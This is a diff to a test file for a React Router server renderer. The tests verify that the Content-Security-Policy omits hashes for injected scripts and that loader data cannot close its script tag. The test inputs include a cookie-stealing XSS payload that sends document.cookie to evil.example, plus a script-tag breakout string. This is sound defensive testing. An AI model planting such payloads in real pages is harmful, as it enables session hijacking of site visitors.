@@ -1,4 +1,5 @@
 import { hash } from "node:crypto";
+import { Script } from "node:vm";
 import { createRequestHandler, Outlet, RouterContextProvider, Scripts, ScrollRestoration, type ServerBuild } from "react-router";
 import { expect, it } from "vitest";
 import * as entry from "./entry.server.tsx";
@@ -48,12 +49,13 @@ async function render(typed: string) {
   return { html: await response.text(), policy: response.headers.get("content-security-policy")! };
 }
 
+const scriptsOf = (html: string): string[] => [...html.matchAll(/<script[^>]*>([^]*?)<\/script>/g)].map(([, code]) => code!);
 const nameOf = (script: string) => `'sha256-${hash("sha256", script, "base64")}'`;
 
 it("names the program's own scripts in its policy, and none that came into the page with somebody's words", async () => {
   const injected = "fetch('//evil.example/'+document.cookie)";
   const { html, policy } = await render(`<script>${injected}</script>`);
-  const run = [...html.matchAll(/<script[^>]*>([^]*?)<\/script>/g)].map(([, code]) => code!);
+  const run = scriptsOf(html);
   expect(run).toContain(injected);
   expect(policy).not.toContain(nameOf(injected));
   expect(policy).not.toContain("unsafe-inline' 's");
@@ -70,7 +72,9 @@ it("is the same page each time it is made, so that its ETag lasts", async () => 
 
 it("hands over what the loaders answered in a script that it cannot end", async () => {
   const { html } = await render("</script><script>go()</script>");
-  const handed = /<script>(window\.__reactRouterContext\.streamController\.enqueue[^]*?)<\/script>/.exec(html)![1]!;
-  expect(handed).toContain("\\u003c/script\\u003e");
-  expect(handed).toMatch(/\);$/);
+  // The field's own script, and the one that hands it over as data.
+  const [own, handed, ...others] = scriptsOf(html).filter((code) => code.includes("go()"));
+  expect([own, others]).toEqual(["go()", []]);
+  expect(handed).not.toContain("<");
+  expect(() => new Script(handed!), "whole: it can be read as a program").not.toThrow();
 });
